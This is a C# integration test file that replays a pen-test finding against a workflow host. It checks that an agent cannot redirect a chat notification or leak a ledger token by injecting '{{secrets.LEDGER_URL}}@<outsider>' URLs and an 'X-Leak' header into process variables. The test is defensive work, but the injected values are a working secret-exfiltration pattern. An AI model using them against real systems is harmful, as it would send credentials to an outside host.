using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Dapper;
using Processes.Host.Identity;
using Processes.Tests.Activities;
using Processes.Tests.Identity;

namespace Processes.Tests.Shipped;

/// <summary>
/// Issue 22 as the pen-test found it, end to end through the real host: an agent starts the shipped exception order
/// with <c>httpUrl = "{{secrets.LEDGER_URL}}@&lt;outsider&gt;/…"</c> and <c>httpHeaders = {"X-Leak": "{{secrets.LEDGER_TOKEN}}"}</c>.
/// The group chat notification must refuse (an incident saying why), the loopback outsider — not in the allow-list —
/// must hear nothing, and no resolved secret may reach history, variables, incidents or the host's logs.
/// </summary>
public sealed class HttpSecretAttackScenarioTests : HostedScenario
{
    private const string Token = "ledger-t0ken-b81c07";
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(20);
    private FakeServer _chat = null!;
    private FakeServer _ledger = null!;
    private FakeServer _outsider = null!;
    private HttpClient _admin = null!;
    private TestUser _agent = null!;

    /// <summary>An origin without a path, as in the pen-test: "{{secrets.LEDGER_URL}}@host" then parses as user information.</summary>
    private string LedgerUrl => _ledger.BaseUrl.GetLeftPart(UriPartial.Authority);

    private string ChatHook => new Uri(_chat.BaseUrl, "hooks/exception-orders").ToString();

    [OneTimeSetUp]
    public async Task StartHost()
    {
        _chat = await StartServerAsync();
        _ledger = await StartServerAsync();
        _outsider = await StartServerAsync();
        _outsider.Respond = request => new FakeAnswer(200, JsonSerializer.Serialize(new { echoed = request.Headers }));
        Host = IdentityHost.Start(ConnectionString, logs: Logs, settings: new Dictionary<string, string>
        {
            ["Processes:Activities:Http:AllowedHosts:0"] = $"127.0.0.1:{_ledger.BaseUrl.Port}",
            ["Processes:Secrets:EXCEPTION_CHAT_WEBHOOK"] = ChatHook,
            ["Processes:Secrets:LEDGER_URL"] = LedgerUrl,
            ["Processes:Secrets:LEDGER_TOKEN"] = Token,
        });
        _admin = await Host.AdminAsync();
        _agent = await Host.CreateUserAsync(roles: [Roles.Agent]);
    }

    [Test]
    public async Task An_agent_cannot_redirect_the_chat_notification_nor_read_a_secret_through_instance_variables()
    {
        var order = await StartOrderAsync("O-9922", new Dictionary<string, object>
        {
            ["httpUrl"] = $"{{{{secrets.LEDGER_URL}}}}@127.0.0.1:{_outsider.BaseUrl.Port}/collect",
            ["httpHeaders"] = new Dictionary<string, string> { ["X-Leak"] = "{{secrets.LEDGER_TOKEN}}" },
        });

        var incident = await IncidentAsync(order);
        incident.GetProperty("elementId").GetString().ShouldBe("NotifyAssigned");
        var message = incident.GetProperty("errorMessage").GetString()!;
        message.ShouldContain("may not change its URL, method or headers");
        message.ShouldContain("'httpUrl', 'httpHeaders'");

        _outsider.Requests.ShouldBeEmpty("the listener outside the allow-list hears nothing");
        _ledger.Requests.ShouldBeEmpty();
        _chat.Requests.ShouldBeEmpty("the refused notification goes nowhere, not even to the chat");
        await ShouldHoldNoSecretAsync(order);
    }

    [Test]
    public async Task A_lookalike_address_in_httpUrl_is_refused_as_well()
    {
        var order = await StartOrderAsync("O-9923", new Dictionary<string, object>
        {
            ["httpUrl"] = $"http://ledger:x@127.0.0.1:{_outsider.BaseUrl.Port}/collect",
        });

        (await IncidentAsync(order)).GetProperty("errorMessage").GetString()!.ShouldContain("'httpUrl'");
        _outsider.Requests.ShouldBeEmpty();
        await ShouldHoldNoSecretAsync(order);
    }

    private async Task ShouldHoldNoSecretAsync(long order)
    {
        string[] secrets = [Token, LedgerUrl, ChatHook, _chat.BaseUrl.Authority];
        await using var connection = await DataSource.OpenConnectionAsync();
        var stored = string.Join("\n", await connection.QueryAsync<string>("""
            SELECT row_to_json(h)::text FROM execution_history h WHERE process_instance_key = @order
            UNION ALL SELECT row_to_json(i)::text FROM incident i WHERE process_instance_key = @order
            UNION ALL SELECT row_to_json(j)::text FROM job j WHERE process_instance_key = @order
            """, new { order }));
        stored.ShouldContain("NotifyAssigned", customMessage: "the history was read");
        var view = await _admin.GetStringAsync(new Uri($"/api/instances/{order}", UriKind.Relative));
        var logged = string.Join("\n", Logs.Entries.Select(e => $"{e.Category}: {e.Message}"));
        foreach (var secret in secrets)
        {
            stored.ShouldNotContain(secret, Case.Insensitive, "history, incidents and jobs");
            view.ShouldNotContain(secret, Case.Insensitive, "variables and incidents");
            logged.ShouldNotContain(secret, Case.Insensitive, "the host's logs");
        }
    }

    private async Task<long> StartOrderAsync(string orderId, Dictionary<string, object> attack)
    {
        var variables = new Dictionary<string, object>(attack)
        {
            ["orderId"] = orderId,
            ["customer"] = new { id = "C-9", phone = "+86 135 0000 0009", tier = "regular", city = "Suzhou" },
            ["problemType"] = "payment-failure",
            ["problemDetail"] = "duplicate-charge",
            ["responsible"] = _agent.UserName,
        };
        var response = await Host.Bearer(_agent.ApiKey).PostAsJsonAsync("/v2/process-instances", new { processDefinitionId = "exception-order", variables });
        var text = await response.Content.ReadAsStringAsync();
        response.StatusCode.ShouldBe(HttpStatusCode.OK, text);
        return long.Parse(JsonDocument.Parse(text).RootElement.GetProperty("processInstanceKey").GetString()!, CultureInfo.InvariantCulture);
    }

    private Task<JsonElement> IncidentAsync(long order) =>
        ScenarioHttp.EventuallyAsync("the notification's incident", async () =>
        {
            var view = await _admin.GetFromJsonAsync<JsonElement>($"/api/instances/{order}");
            return view.GetProperty("incidents").EnumerateArray().Select(i => (JsonElement?)i).FirstOrDefault();
        }, _admin, order.ToString(CultureInfo.InvariantCulture), Logs, Patience);
}
